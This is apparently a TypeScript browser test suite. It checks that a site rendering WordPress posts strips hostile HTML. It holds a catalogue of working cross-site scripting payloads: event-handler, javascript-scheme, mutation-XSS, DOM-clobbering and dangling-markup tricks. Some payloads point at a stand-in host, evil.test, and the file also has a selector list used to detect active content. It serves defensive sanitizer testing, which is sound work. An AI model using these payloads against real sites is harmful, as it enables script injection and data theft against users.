import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { aPost } from '#test/factories/wordpress-post.ts';
import { describeInChromium } from '#test/setup/browser.ts';
import { startBuiltServer, type RunningServer } from '#test/setup/start-server.ts';
import { startWordpressServer, type WordpressServer } from '#test/setup/wpgraphql-server.ts';
import { watchCanaries } from './fixtures/watch-canaries.ts';

const run = 'zq7(1)';
/** What somebody who holds the CMS could publish; in one text as long as none swallows the next. */
const hostile: Record<string, string> = {
  handlers: `<img src=x onerror=${run}><svg onload=${run}></svg><details open ontoggle=${run}>x</details><input autofocus onfocus=${run}><video><source onerror=${run}></video><p style="animation:a" onanimationstart=${run}>x</p>`,
  scripts: `<script>${run}</script><ScRiPt>${run}</sCrIpT><svg><script>${run}</script></svg><math><mtext><script>${run}</script></mtext></math><a href="https://x.test/" onclick=${run}>x</a>`,
  schemes: `<a href="javascript:${run}">a</a><a href="java\nscript:${run}">b</a><a href="jav&#x61;script:${run}">c</a><a href="javascript&colon;${run}">d</a><a href="data:text/html,x">e</a><a href="vbscript:${run}">f</a><a href="\u0001javascript:${run}">g</a>`,
  elsewhere: `<base href=//evil.test><meta http-equiv=refresh content="0;//evil.test"><style>@import url(//evil.test/a);body{background:url(//evil.test/b)}</style><link rel=stylesheet href=//evil.test/c><link rel=dns-prefetch href=//evil.test><img src=//evil.test/d><img srcset="//evil.test/e 1x"><form action=//evil.test><button>x</button></form>`,
  frames: `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="data:text/html,<script>parent.${run}</script>"></object><embed src=//evil.test><iframe src=//evil.test></iframe><iframe src="javascript:parent.${run}"></iframe>`,
  clobbering: `<form id=contact-form><input name=action></form><a id=config></a><a id=config name=url href=//evil.test>x</a><img name=currentScript src=/x><div id=__NEXT_DATA__ data-island=gallery data-carousel data-video=x>x</div>`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg><template><img src=x onerror=${run}></template><p title='"><svg/onload=${run}>'>x</p><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  comments: `<!--><img src=x onerror=${run}>--><!--<img src=x onerror=${run}>--!><img src=x onerror=${run}>]]><?x ><img src=x onerror=${run}>?>`,
  dangling: `<textarea></textarea><img src=x onerror=${run}><a href="//evil.test/?`,
};
const slugs = Object.keys(hostile);

describeInChromium('hostile articles of a CMS (D4)', ({ openPage }) => {
  let folder: string;
  let cms: WordpressServer;
  let site: RunningServer;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'omnibus-hostile-'));
    cms = await startWordpressServer(
      slugs.map((slug, at) =>
        aPost({
          slug,
          databaseId: at + 1,
          title: `About ${slug} ${hostile[slug]}`,
          excerpt: `Excerpt ${hostile[slug]}`,
          author: hostile[slug],
          content: `<p>Words before.</p>${hostile[slug]}<p>Words after.</p>`,
        }),
      ),
    );
    site = await startBuiltServer({
      DATA_DIR: folder,
      LOG_LEVEL: 'warn',
      CONTENT: 'wpgraphql',
      WPGRAPHQL_URL: cms.endpoint,
    });
  });
  afterAll(async () => {
    site?.kill();
    await cms?.close();
    await rm(folder, { recursive: true, force: true });
  });
  const article = (slug = '') => `/knowledge-center/blog/${slug}/`;

  it('would run if they came as they are', async () => {
    for (const slug of ['handlers', 'scripts', 'elsewhere', 'frames', 'mutation', 'dangling']) {
      const page = await openPage({ tolerate: /./ });
      const found = await watchCanaries(page, site.origin);
      await page.route('**/*', (route) => route.fulfill({ contentType: 'text/html', body: '' }));
      await page.goto(site.origin);
      await page.setContent(`<!doctype html><main>${hostile[slug]}`, { waitUntil: 'commit' });
      await expect.poll(() => found, { message: slug, timeout: 30_000 }).not.toEqual([]);
      await page.close();
    }
  });

  it('run nothing, fetch nothing from elsewhere and take no name of ours, without the policy too', async () => {
    const ready = async () => (await fetch(site.origin + article(slugs.at(-1)))).status;
    await expect.poll(ready, { timeout: 30_000 }).toBe(200);
    // The headers would stop most of it: here the texts have to be harmless by themselves.
    const page = await openPage({ bypassCSP: true, tolerate: /status of 503/ });
    const found = await watchCanaries(page, site.origin);
    for (const path of ['/knowledge-center/blog-articles/', ...slugs.map(article)]) {
      await page.goto(site.origin + path, { waitUntil: 'domcontentloaded' });
      const main = page.locator('main');
      expect(await main.textContent(), path).toMatch(/Words before|About handlers/);
      const schemes = await main
        .locator('a[href]')
        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
      expect(schemes.filter((scheme) => !/^(https?:|mailto:|tel:)$/.test(scheme))).toEqual([]);
      const active =
        'main :is(script:not([type*=json]), style, iframe, object, embed, base, meta[http-equiv], link[rel=stylesheet], form[action*=evil], [onerror], [onclick], [onload], #config, #__NEXT_DATA__, [name=currentScript])';
      expect(await page.locator(active).count(), path).toBe(0);
      expect(found, path).toEqual([]);
    }
  });
});
